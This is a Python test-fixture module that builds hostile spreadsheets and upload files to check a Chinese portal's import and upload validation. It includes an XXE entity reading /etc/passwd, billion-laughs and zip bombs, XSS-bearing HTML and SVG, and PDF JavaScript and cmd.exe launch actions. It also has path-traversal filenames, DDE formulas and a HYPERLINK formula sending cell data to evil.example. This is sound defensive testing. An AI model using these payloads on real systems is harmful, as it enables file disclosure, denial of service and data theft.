"""The hostile-input corpus: spreadsheets for the imports and files for the upload forms.

A case says how it is fed and what it must produce:

- :class:`SheetCase` — a file for ``layout``, named ``filename``, fed both to the browser upload
  (``imports:upload``) and to ``manage.py import_sheet`` unless ``via`` says otherwise. ``error``
  is a fragment of the Chinese message the portal must answer with (the command prints the same
  message); ``upload_error`` replaces it when the upload form refuses the file before the import
  reads it (Django's own message for an empty file).
- :class:`UploadCase` — a file posted to one of the upload forms in ``ENDPOINTS``.
- :class:`FormulaCase` — text a spreadsheet would run as a formula, valid as data: it may be
  stored, and every export must neutralise it.

Valid rows come first in every sheet and the hostile row last, so a partial write would show.
Files are built in memory when a test asks for them (``case.build()``); nothing binary is kept
in the repository.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from kejiju.codes import make_credit_code
from patents.numbers import check_character

# ---- the layouts' valid rows ---------------------------------------------------------------


def patent_number(serial: int, type_digit: str = "1", year: int = 2023) -> str:
    body = f"{year}{type_digit}{serial:07d}"
    return f"{body}.{check_character(body)}"


def wrong_check(number: str) -> str:
    body, check = number.split(".")
    return f"{body}.{'0' if check != '0' else '1'}"


def patents(n: int, **changes) -> dict:
    return {
        "申请号": patent_number(n),
        "专利名称": f"一种防松螺母{n}",
        "申请人": "瑞安某科技有限公司",
        "申请日": "2023-03-01",
        **changes,
    }


def enterprises(n: int, **changes) -> dict:
    return {
        "统一社会信用代码": make_credit_code(7000 + n),
        "企业名称": f"瑞安样例机械有限公司{n}",
        "所属镇街": "安阳街道",
        "成立日期": "2015-06-01",
        "从业人数": "80",
        **changes,
    }


def experts(n: int, **changes) -> dict:
    return {
        "姓名": f"样例专家{n}",
        "工作单位": "温州大学",
        "职称": "正高级",
        "专业领域": "机械制造",
        "手机": f"1390577{n:04d}",
        "电子邮箱": f"e{n}@example.cn",
        **changes,
    }


def projects(n: int, **changes) -> dict:
    return {
        "项目编号": f"GY2023-{n:03d}",
        "项目名称": f"汽车零部件检测平台{n}",
        "计划类别": "一般工业科技项目",
        "承担单位": "瑞安某机械公司",
        "统一社会信用代码": "",
        "申报日期": "2023-04-01",
        "状态": "已申报",
        **changes,
    }


def seismic(n: int, **changes) -> dict:
    return {
        "活动名称": f"防震减灾宣传{n}",
        "活动类型": "宣传",
        "日期": f"2024-05-{1 + n % 28:02d}",
        "所属镇街": "安阳街道",
        "参与人次": "300",
        **changes,
    }


def contracts(n: int, **changes) -> dict:
    return {
        "合同登记号": f"330381{n:06d}",
        "合同名称": f"智能控制系统技术开发{n}",
        "合同类型": "技术开发",
        "卖方": "温州大学",
        "买方": "瑞安某机械公司",
        "成交金额(万元)": "120",
        "登记日期": "2023-05-01",
        **changes,
    }


def qualifications(n: int, **changes) -> dict:
    return {
        "统一社会信用代码": make_credit_code(7000 + n),
        "资质类型": "高新技术企业",
        "级别": "国家级",
        "认定日期": "2023-12-01",
        **changes,
    }


ROWS = {
    "patents": patents,
    "enterprises": enterprises,
    "experts": experts,
    "projects": projects,
    "seismic_activities": seismic,
    "tech_contracts": contracts,
    "qualifications": qualifications,
}


def rows(layout: str, bad: dict | None = None, good: int = 2) -> list[dict]:
    """``good`` valid rows, then one row with the ``bad`` changes."""
    make = ROWS[layout]
    result = [make(n) for n in range(1, good + 1)]
    if bad is not None:
        result.append(make(good + 1, **bad))
    return result


# ---- writing files ----------------------------------------------------------------------------


def csv_bytes(table: list[dict], encoding: str = "utf-8", headers: list[str] | None = None):
    headers = headers or list(table[0])
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow(headers)
    for row in table:
        writer.writerow(["" if row.get(h) is None else row.get(h) for h in headers])
    return buffer.getvalue().encode(encoding)


def xlsx_bytes(table: list[dict], headers: list[str] | None = None, blank_rows_above: int = 0):
    from openpyxl import Workbook

    headers = headers or list(table[0])
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("Sheet1")
    for _ in range(blank_rows_above):
        sheet.append([])
    sheet.append(headers)
    for row in table:
        sheet.append([row.get(h) for h in headers])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def rewrite_parts(workbook: bytes, parts: dict[str, bytes], level: int = 6) -> bytes:
    """The workbook with some of its zip parts replaced (or added)."""
    source = zipfile.ZipFile(io.BytesIO(workbook))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as target:
        for item in source.infolist():
            if item.filename not in parts:
                target.writestr(item.filename, source.read(item.filename))
        for name, data in parts.items():
            target.writestr(name, data)
    return buffer.getvalue()


def sheet_path(workbook: bytes) -> str:
    names = zipfile.ZipFile(io.BytesIO(workbook)).namelist()
    return next(n for n in names if n.startswith("xl/worksheets/sheet"))


MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def inline_sheet(table: list[list], prolog: str = "", padding: bytes = b"") -> bytes:
    """Sheet XML with inline strings; ``prolog`` goes before the root element and ``padding``
    (whitespace) inside sheetData after the rows."""
    out = [f'<?xml version="1.0" encoding="UTF-8"?>{prolog}<worksheet xmlns="{MAIN_NS}">']
    out.append("<sheetData>")
    for number, cells in enumerate(table, start=1):
        out.append(f'<row r="{number}">')
        for value in cells:
            out.append(f'<c t="inlineStr"><is><t>{value}</t></is></c>')
        out.append("</row>")
    head = "".join(out).encode()
    return head + padding + b"</sheetData></worksheet>"


def table_of(layout: str, bad: dict | None = None) -> list[list]:
    data = rows(layout, bad)
    headers = list(data[0])
    return [headers, *([row[h] for h in headers] for row in data)]


def with_sheet(layout: str, sheet_xml: bytes, level: int = 6) -> bytes:
    base = xlsx_bytes(rows(layout))
    return rewrite_parts(base, {sheet_path(base): sheet_xml}, level=level)


def zip_bomb_xlsx() -> bytes:
    """A real bomb: 40 MB of whitespace in the sheet that packs to a few dozen KB."""
    return with_sheet("patents", inline_sheet(table_of("patents"), padding=b" " * 40_000_000), 9)


def declared_size_bomb(data: bytes) -> bytes:
    """The archive as it is, but its central directory declares every part at 4 GB."""
    data = bytearray(data)
    at = data.find(b"PK\x01\x02")
    while at != -1:
        data[at + 24 : at + 28] = struct.pack("<I", 0xFFFFFFF0)
        at = data.find(b"PK\x01\x02", at + 4)
    return bytes(data)


LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
        for i in range(1, 10)
    )
    + "]>"
)


def billion_laughs_xlsx() -> bytes:
    table = table_of("enterprises")
    table[1][1] = "&lol9;"
    return with_sheet("enterprises", inline_sheet(table, prolog=LAUGHS))


def external_entity_xlsx(padding: int = 0) -> bytes:
    """An external entity naming a local file; ``padding`` puts it behind a long comment."""
    prolog = ("<!--" + "x" * padding + "-->" if padding else "") + (
        '<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    )
    table = table_of("patents")
    table[1][1] = "&xxe;"
    return with_sheet("patents", inline_sheet(table, prolog=prolog))


def corrupted_sheet_xlsx() -> bytes:
    """A workbook whose sheet part has its compressed bytes overwritten half-way."""
    data = bytearray(xlsx_bytes(rows("seismic_activities", good=300)))
    archive = zipfile.ZipFile(io.BytesIO(bytes(data)))
    info = archive.getinfo(sheet_path(bytes(data)))
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    middle = start + info.compress_size // 2
    data[middle : middle + 64] = b"\xff" * 64
    return bytes(data)


def wide_header_xlsx() -> bytes:
    """16,384 columns (Excel's maximum), the key column again in the last one."""
    headers = list(patents(1)) + [f"备注{i}" for i in range(16384 - len(patents(1)) - 1)]
    headers.append("申请号")
    return xlsx_bytes(rows("patents"), headers=headers)


def many_rows_csv() -> bytes:
    """1,500 rows (a background job, written for real) with a bad date in row 1,400."""
    data = [seismic(n, 活动名称=f"宣传活动{n}") for n in range(1, 1500)]
    data[1398]["日期"] = "2024-13-01"
    return csv_bytes(data)


TRADITIONAL = str.maketrans("单职称专业领机制温学样级电邮", "單職稱專業領機製溫學樣級電郵")


def big5_csv() -> bytes:
    """The experts sheet as a Taiwan or Hong Kong office saves it: traditional characters, Big5."""
    text = csv_bytes(rows("experts")).decode().translate(TRADITIONAL)
    return text.encode("big5")


def utf16_without_bom() -> bytes:
    return csv_bytes(rows("enterprises"), encoding="utf-16-le")


def latin1_cell_in_utf8() -> bytes:
    text = csv_bytes(rows("seismic_activities")).decode()
    return text.encode("utf-8") + "Müller-Lüdenscheidt,,2024-05-09,,,,,\r\n".encode("latin-1")


def nul_in_the_middle() -> bytes:
    data = csv_bytes(rows("patents"))
    return data + "一种\x00装置".encode()


def pdf_document(catalog: bytes = b"", *objects: bytes) -> bytes:
    """A well-formed one-page PDF (a correct cross-reference table); ``catalog`` is added to the
    document catalog and ``objects`` are numbered from 4 on."""
    bodies = [
        b"<</Type/Catalog/Pages 2 0 R" + catalog + b">>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>",
        *objects,
    ]
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(bodies, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj%sendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(bodies) + 1, xref)
    return bytes(out)


PDF = pdf_document()
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 240
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
    b"<script>alert(document.domain)</script></svg>"
)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504


# ---- sheet cases --------------------------------------------------------------------------------


@dataclass(frozen=True)
class SheetCase:
    id: str
    layout: str
    filename: str
    build: Callable[[], bytes]
    error: str
    upload_error: str | None = None
    via: tuple[str, ...] = ("upload", "command")


def sheet_csv(layout, bad, encoding="utf-8"):
    return lambda: csv_bytes(rows(layout, bad), encoding)


def sheet_xlsx(layout, bad):
    return lambda: xlsx_bytes(rows(layout, bad))


BAD_CODE = make_credit_code(7099)[:-1] + ("0" if make_credit_code(7099)[-1] != "0" else "1")

SHEETS: list[SheetCase] = [
    # Encodings and text that is not text.
    SheetCase(
        "csv-utf16-bom",
        "patents",
        "专利.csv",
        lambda: csv_bytes(rows("patents"), "utf-16"),
        "UTF-16 编码",
    ),
    SheetCase("csv-utf16-no-bom", "enterprises", "企业.csv", utf16_without_bom, "空字符"),
    SheetCase(
        "csv-big5",
        "experts",
        "專家.csv",
        big5_csv,
        "不是 UTF-8 编码",
    ),
    SheetCase(
        "csv-latin1-cell-in-utf8", "seismic_activities", "活动.csv", latin1_cell_in_utf8, "编码"
    ),
    SheetCase("csv-nul-in-cell", "patents", "专利.csv", nul_in_the_middle, "空字符"),
    SheetCase(
        "csv-huge-cell",
        "enterprises",
        "企业.csv",
        sheet_csv("enterprises", {"企业名称": "厂" * 1_000_000}),
        "内容过长",
    ),
    # Files that are not what their name says.
    SheetCase("xlsx-is-pdf", "patents", "专利.xlsx", lambda: PDF, "PDF 文件"),
    SheetCase("xlsx-is-exe", "experts", "专家.xlsx", lambda: EXE, "可执行程序"),
    SheetCase("xlsx-is-html", "projects", "项目.xlsx", lambda: HTML, "网页"),
    SheetCase("xlsx-is-ole-xls", "patents", "专利.xlsx", lambda: OLE, "旧版 Excel"),
    # Web systems export an HTML table named .xls; an OpenDocument text is not a sheet.
    SheetCase(
        "xls-is-html-table",
        "enterprises",
        "企业名录.xls",
        lambda: (
            b"<html><body><table><tr><td>\xe4\xbc\x81\xe4\xb8\x9a</td></tr></table></body></html>"
        ),
        "网页（HTML / XML），不是 Excel 工作簿",
    ),
    SheetCase(
        "ods-is-odt",
        "patents",
        "专利.ods",
        lambda: zip_of(
            {
                "mimetype": b"application/vnd.oasis.opendocument.text",
                "content.xml": b"<office:document-content/>",
            }
        ),
        "不是表格",
    ),
    SheetCase(
        "ods-with-dtd",
        "patents",
        "专利.ods",
        lambda: zip_of(
            {
                "mimetype": b"application/vnd.oasis.opendocument.spreadsheet",
                "content.xml": b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>',
            }
        ),
        "DTD",
    ),
    SheetCase(
        "xlsx-is-csv",
        "seismic_activities",
        "活动.xlsx",
        lambda: csv_bytes(rows("seismic_activities")),
        "不是 Excel 工作簿",
    ),
    SheetCase(
        "csv-is-xlsx",
        "enterprises",
        "企业.csv",
        lambda: xlsx_bytes(rows("enterprises")),
        "不是文本表格",
    ),
    SheetCase("csv-is-exe", "patents", "专利.csv", lambda: EXE, "可执行程序"),
    SheetCase("damaged-xls", "patents", "专利.xls", lambda: OLE, "旧版 Excel（.xls"),
    SheetCase(
        "doc-extension", "patents", "专利.doc", sheet_csv("patents", None), "不支持的文件类型"
    ),
    SheetCase("no-extension", "patents", "专利", sheet_csv("patents", None), "不支持的文件类型"),
    # Damaged and dangerous workbooks.
    SheetCase(
        "xlsx-truncated",
        "patents",
        "专利.xlsx",
        lambda: xlsx_bytes(rows("patents"))[:700],
        "已损坏",
    ),
    SheetCase(
        "xlsx-corrupted-sheet", "seismic_activities", "活动.xlsx", corrupted_sheet_xlsx, "损坏"
    ),
    SheetCase("xlsx-zip-bomb", "patents", "专利.xlsx", zip_bomb_xlsx, "压缩炸弹"),
    SheetCase(
        "xlsx-declared-size-bomb",
        "projects",
        "项目.xlsx",
        lambda: declared_size_bomb(xlsx_bytes(rows("projects"))),
        "压缩炸弹",
    ),
    SheetCase("xlsx-billion-laughs", "enterprises", "企业.xlsx", billion_laughs_xlsx, "DTD"),
    SheetCase("xlsx-external-entity", "patents", "专利.xlsx", external_entity_xlsx, "DTD"),
    SheetCase(
        "xlsx-external-entity-behind-comment",
        "patents",
        "专利.xlsx",
        lambda: external_entity_xlsx(padding=8000),
        "损坏",
    ),
    SheetCase(
        "xlsx-zip-without-workbook",
        "experts",
        "专家.xlsx",
        lambda: rewrite_parts(xlsx_bytes(rows("experts")), {"xl/workbook.xml": b"<broken"}),
        "损坏",
    ),
    # Empty files, headers only, wrong headers.
    SheetCase(
        "empty-xlsx",
        "patents",
        "专利.xlsx",
        lambda: b"",
        "文件是空的",
        upload_error="空文件",
    ),
    SheetCase("empty-csv", "experts", "专家.csv", lambda: b"", "文件是空的", upload_error="空文件"),
    SheetCase(
        "header-only-csv",
        "patents",
        "专利.csv",
        lambda: csv_bytes([], headers=list(patents(1))),
        "没有数据",
    ),
    SheetCase(
        "header-only-xlsx",
        "seismic_activities",
        "活动.xlsx",
        lambda: xlsx_bytes([], headers=list(seismic(1))),
        "没有数据",
    ),
    SheetCase(
        "xlsx-header-below-ten-blank-rows",
        "projects",
        "项目.xlsx",
        lambda: xlsx_bytes(rows("projects"), blank_rows_above=10),
        "前 10 行是空的",
    ),
    SheetCase(
        "missing-required-column",
        "projects",
        "项目.csv",
        lambda: csv_bytes(rows("projects"), headers=[h for h in projects(1) if h != "计划类别"]),
        "缺少必填列：「计划类别」",
    ),
    SheetCase(
        "duplicated-column",
        "experts",
        "专家.csv",
        lambda: csv_bytes(rows("experts"), headers=[*experts(1), "手机"]),
        "列「手机」出现了两次",
    ),
    SheetCase(
        "english-headers",
        "enterprises",
        "companies.csv",
        lambda: (
            b"credit_code,name,town\r\n" + make_credit_code(7001).encode() + b",ACME,Anyang\r\n"
        ),
        "缺少必填列",
    ),
    SheetCase("xlsx-16384-columns", "patents", "专利.xlsx", wide_header_xlsx, "第 XFD 列"),
    # Too much of it.
    SheetCase(
        "xlsx-huge-cell",
        "patents",
        "专利.xlsx",
        sheet_xlsx("patents", {"专利名称": "装" * 1_000_000}),
        "超过 300 个字符",
    ),
    SheetCase(
        "csv-1500-rows-bad-at-1400",
        "seismic_activities",
        "活动.csv",
        many_rows_csv,
        "无法识别的日期「2024-13-01」",
    ),
    # Codes and their check digits.
    SheetCase(
        "credit-code-check-digit",
        "enterprises",
        "企业.csv",
        sheet_csv("enterprises", {"统一社会信用代码": BAD_CODE}),
        "校验位不正确",
    ),
    SheetCase(
        "credit-code-length",
        "qualifications",
        "资质.csv",
        sheet_csv("qualifications", {"统一社会信用代码": "91330381123"}),
        "应为 18 位",
    ),
    SheetCase(
        "credit-code-letters",
        "projects",
        "项目.xlsx",
        sheet_xlsx("projects", {"统一社会信用代码": "91330381MA2OOOOOOI"}),
        "不允许的字符",
    ),
    SheetCase(
        "patent-check-character",
        "patents",
        "专利.xlsx",
        sheet_xlsx("patents", {"申请号": wrong_check(patent_number(3))}),
        "校验位错误",
    ),
    SheetCase(
        "patent-type-digit",
        "patents",
        "专利.csv",
        sheet_csv("patents", {"申请号": "202351234567.1"}),
        "专利类型位为 5",
    ),
    SheetCase(
        "formula-as-key",
        "patents",
        "专利.csv",
        sheet_csv("patents", {"申请号": "=1+1"}),
        "格式不正确",
    ),
    SheetCase(
        "mobile-not-a-number",
        "experts",
        "专家.csv",
        sheet_csv("experts", {"手机": "@SUM(1+1)"}),
        "不是 11 位手机号码",
    ),
    # Duplicates within the file.
    SheetCase(
        "duplicate-patent-number",
        "patents",
        "专利.xlsx",
        sheet_xlsx("patents", {"申请号": patent_number(1)}),
        "与第 2 行重复",
    ),
    SheetCase(
        "duplicate-mobile-written-differently",
        "experts",
        "专家.csv",
        sheet_csv("experts", {"手机": "139-0577-0001"}),
        "与第 2 行重复",
    ),
    # Dates.
    SheetCase(
        "date-day-zero",
        "patents",
        "专利.csv",
        sheet_csv("patents", {"申请日": "1900-01-00"}),
        "无法识别的日期「1900-01-00」",
    ),
    SheetCase(
        "date-year-2999",
        "patents",
        "专利.xlsx",
        sheet_xlsx("patents", {"申请日": "2999-01-01"}),
        "超出合理范围",
    ),
    SheetCase(
        "date-february-30",
        "seismic_activities",
        "活动.csv",
        sheet_csv("seismic_activities", {"日期": "2023-02-30"}),
        "无法识别的日期「2023-02-30」",
    ),
    SheetCase(
        "excel-serial-zero",
        "projects",
        "项目.xlsx",
        sheet_xlsx("projects", {"申报日期": 0}),
        "无法识别的日期「0」",
    ),
    SheetCase(
        "excel-serial-negative",
        "patents",
        "专利.xlsx",
        sheet_xlsx("patents", {"申请日": -1}),
        "无法识别的日期「-1」",
    ),
    SheetCase(
        "excel-date-cell-2150",
        "enterprises",
        "企业.xlsx",
        sheet_xlsx("enterprises", {"成立日期": dt.datetime(2150, 1, 1)}),
        "超出合理范围",
    ),
    # Numbers.
    SheetCase(
        "amount-nan",
        "tech_contracts",
        "合同.csv",
        sheet_csv("tech_contracts", {"成交金额(万元)": "NaN"}),
        "「NaN」不是数字",
    ),
    SheetCase(
        "amount-1e30",
        "tech_contracts",
        "合同.xlsx",
        sheet_xlsx("tech_contracts", {"成交金额(万元)": "1e30"}),
        "超出范围",
    ),
    SheetCase(
        "amount-negative",
        "tech_contracts",
        "合同.csv",
        sheet_csv("tech_contracts", {"成交金额(万元)": "-5"}),
        "金额不能为负数",
    ),
    SheetCase(
        "integer-overflow",
        "seismic_activities",
        "活动.csv",
        sheet_csv("seismic_activities", {"参与人次": "99999999999"}),
        "超出范围",
    ),
    SheetCase(
        "integer-infinity",
        "enterprises",
        "企业.csv",
        sheet_csv("enterprises", {"从业人数": "Infinity"}),
        "不是整数",
    ),
    # Values outside the vocabularies and reference data.
    SheetCase(
        "unknown-status",
        "projects",
        "项目.csv",
        sheet_csv("projects", {"状态": "进行中"}),
        "「进行中」不是可选的值",
    ),
    SheetCase(
        "unknown-town",
        "enterprises",
        "企业.csv",
        sheet_csv("enterprises", {"所属镇街": "火星镇"}),
        "未知的镇街「火星镇」",
    ),
    SheetCase(
        "required-cell-blank",
        "seismic_activities",
        "活动.xlsx",
        sheet_xlsx("seismic_activities", {"活动类型": None}),
        "必填，不能为空",
    ),
    SheetCase(
        "email-with-script",
        "experts",
        "专家.csv",
        sheet_csv("experts", {"电子邮箱": "javascript:alert(1)"}),
        "不是有效的电子邮箱",
    ),
]

# Names a browser can send but a file on disk cannot have: fed to the upload form only.
TRAVERSAL_NAMES = {
    "name-parent-directories": "../../../../etc/passwd.csv",
    "name-absolute-path": "/etc/cron.d/kejiju.csv",
    "name-windows-path": "..\\..\\Windows\\System32\\drivers\\etc\\hosts.csv",
    "name-control-characters": "企业\x00\x1b[31m.exe.csv",
    "name-300-characters": "企" * 300 + ".csv",
}
SHEETS += [
    SheetCase(
        case_id,
        "enterprises",
        name,
        sheet_csv("enterprises", {"统一社会信用代码": BAD_CODE}),
        "校验位不正确",
        via=("upload",),
    )
    for case_id, name in TRAVERSAL_NAMES.items()
]


# ---- upload cases -----------------------------------------------------------------------------


def png(width: int, height: int) -> bytes:
    """A PNG that declares ``width`` × ``height`` pixels and carries a few bytes of data."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data))
            + kind
            + data
            + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
        )

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00" * 1024))
        + chunk(b"IEND", b"")
    )


def real_jpeg() -> bytes:
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", (64, 48), "navy").save(buffer, "JPEG")
    return buffer.getvalue()


def ooxml(main_part: str, extra: dict | None = None, level: int = 6) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr(main_part, "<root/>")
        for name, data in (extra or {}).items():
            archive.writestr(name, data)
    return buffer.getvalue()


def zip_of(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def real_png() -> bytes:
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", (64, 48), "navy").save(buffer, "PNG")
    return buffer.getvalue()


def real_docx(extra: dict[str, bytes] | None = None) -> bytes:
    """A Word document as python-docx writes it, with ``extra`` members added to the package."""
    from docx import Document

    document = Document()
    document.add_paragraph("项目申报书")
    buffer = io.BytesIO()
    document.save(buffer)
    return rewrite_parts(buffer.getvalue(), extra or {})


# Where a file can be uploaded: the enterprise's attachment to an application (any allowed
# kind, checked by kejiju.uploads), a seismic activity's photo (decoded and re-encoded), the
# document of an emergency plan version (PDF or DOCX).
ENDPOINTS = ("attachment", "photo", "plan_document")

NOT_ALLOWED = "文件内容不是允许的类型"
NOT_AN_IMAGE = "不是有效的图片"
NOT_A_PDF = "不是有效的 PDF"
MB = 1024 * 1024


@dataclass(frozen=True)
class UploadCase:
    id: str
    endpoint: str
    filename: str
    build: Callable[[], bytes]
    error: str


UPLOADS: list[UploadCase] = [
    UploadCase("exe-renamed-pdf", "attachment", "营业执照.pdf", lambda: EXE, NOT_ALLOWED),
    UploadCase(
        "pdf-wrong-magic", "attachment", "审计报告.pdf", lambda: b"%PDX-1.4" + PDF[8:], NOT_ALLOWED
    ),
    UploadCase("html-renamed-pdf", "attachment", "证书.pdf", lambda: HTML, NOT_ALLOWED),
    UploadCase("svg-script-renamed-png", "attachment", "照片.png", lambda: SVG, NOT_ALLOWED),
    UploadCase("html-renamed-jpg", "attachment", "照片.jpg", lambda: HTML, NOT_ALLOWED),
    UploadCase(
        "gif-javascript-polyglot",
        "attachment",
        "照片.jpg",
        lambda: b"GIF89a/*\x01\x00\x01\x00\x00\xff\x00,*/=alert(1);//",
        NOT_ALLOWED,
    ),
    UploadCase(
        "zip-that-is-not-office",
        "attachment",
        "财务报表.xlsx",
        lambda: zip_of({"index.html": HTML, "run.exe": EXE}),
        "不是 Word（DOCX）或 Excel（XLSX）文档",
    ),
    UploadCase(
        "docx-declared-size-bomb",
        "attachment",
        "申报书.docx",
        lambda: declared_size_bomb(ooxml("word/document.xml")),
        "压缩炸弹",
    ),
    UploadCase(
        "xlsx-ratio-bomb",
        "attachment",
        "财务报表.xlsx",
        lambda: ooxml("xl/workbook.xml", {"xl/worksheets/sheet1.xml": b" " * 20_000_000}, 9),
        "压缩炸弹",
    ),
    UploadCase(
        "docx-truncated",
        "attachment",
        "申报书.docx",
        lambda: ooxml("word/document.xml")[:-30],
        "文件已损坏",
    ),
    UploadCase("zero-byte-attachment", "attachment", "空.pdf", lambda: b"", "空文件"),
    UploadCase(
        "oversize-attachment",
        "attachment",
        "大文件.pdf",
        lambda: PDF + b"0" * (20 * MB),
        "超过上限 20 MB",
    ),
    UploadCase(
        "traversal-name-attachment",
        "attachment",
        "../../../../var/www/evil.pdf",
        lambda: EXE,
        NOT_ALLOWED,
    ),
    UploadCase("html-renamed-jpg-photo", "photo", "活动现场.jpg", lambda: HTML, NOT_AN_IMAGE),
    UploadCase("svg-script-renamed-png-photo", "photo", "活动现场.png", lambda: SVG, NOT_AN_IMAGE),
    UploadCase("exe-renamed-jpg-photo", "photo", "活动现场.jpg", lambda: EXE, NOT_AN_IMAGE),
    UploadCase(
        "jpeg-truncated-photo", "photo", "活动现场.jpg", lambda: real_jpeg()[:200], NOT_AN_IMAGE
    ),
    UploadCase(
        "png-decompression-bomb", "photo", "全景.png", lambda: png(100_000, 100_000), "尺寸过大"
    ),
    UploadCase("png-too-many-pixels", "photo", "全景.png", lambda: png(8000, 6000), "尺寸过大"),
    UploadCase("zero-byte-photo", "photo", "活动现场.jpg", lambda: b"", "空文件"),
    UploadCase(
        "oversize-photo",
        "photo",
        "活动现场.jpg",
        lambda: real_jpeg() + b"\x00" * (10 * MB),
        "照片不能超过 10 MB",
    ),
    UploadCase("exe-renamed-pdf-plan", "plan_document", "预案.pdf", lambda: EXE, NOT_ALLOWED),
    UploadCase("html-renamed-pdf-plan", "plan_document", "预案.pdf", lambda: HTML, NOT_ALLOWED),
    UploadCase(
        "image-as-plan",
        "plan_document",
        "预案.pdf",
        lambda: png(10, 10),
        "只接受 PDF、Word（DOCX）",
    ),
    UploadCase(
        "traversal-name-plan",
        "plan_document",
        "../../settings.py.pdf",
        lambda: SVG,
        NOT_ALLOWED,
    ),
    # Polyglots: the first bytes of an allowed format, something else behind them.
    UploadCase(
        "html-behind-a-pdf-header",
        "attachment",
        "证书.pdf",
        lambda: b"%PDF-1.7\n" + HTML,
        NOT_A_PDF,
    ),
    UploadCase(
        "png-magic-then-html",
        "attachment",
        "照片.png",
        lambda: b"\x89PNG\r\n\x1a\n" + HTML,
        "不是有效的 PNG 图片",
    ),
    UploadCase(
        "png-with-html-after-iend",
        "attachment",
        "照片.png",
        lambda: real_png() + HTML,
        "图片结束之后还附带了",
    ),
    UploadCase(
        "docx-carrying-evil-html",
        "attachment",
        "申报书.docx",
        lambda: real_docx({"evil.html": HTML}),
        "不允许的内容「evil.html」",
    ),
    # Well-formed files with active content.
    UploadCase(
        "pdf-javascript-openaction",
        "attachment",
        "审计报告.pdf",
        lambda: pdf_document(b"/OpenAction 4 0 R", b"<</S/JavaScript/JS(app.alert(1))>>"),
        "PDF 中含有不允许的内容：JavaScript 脚本",
    ),
    UploadCase(
        "docx-with-vba-project",
        "attachment",
        "申报书.docx",
        lambda: real_docx({"word/vbaProject.bin": OLE}),
        "「word/vbaProject.bin」（宏代码）",
    ),
    UploadCase(
        "pdf-launch-action-plan",
        "plan_document",
        "预案.pdf",
        lambda: pdf_document(b"/OpenAction<</S/Launch/F(C:\\\\Windows\\\\System32\\\\cmd.exe)>>"),
        "启动外部程序的动作",
    ),
]


# ---- formula injection: valid data, neutralised on the way out -----------------------------------


@dataclass(frozen=True)
class FormulaCase:
    id: str
    text: str


FORMULAS = [
    FormulaCase("hyperlink", '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'),
    FormulaCase("dde-command", "+cmd|' /C calc'!A0"),
    FormulaCase("at-sum", "@SUM(1+1)*cmd|' /C calc'!A0"),
    FormulaCase("minus", "-1+1"),
    FormulaCase("tab", "\t=1+1"),
    FormulaCase("carriage-return", "\r=1+1"),
]
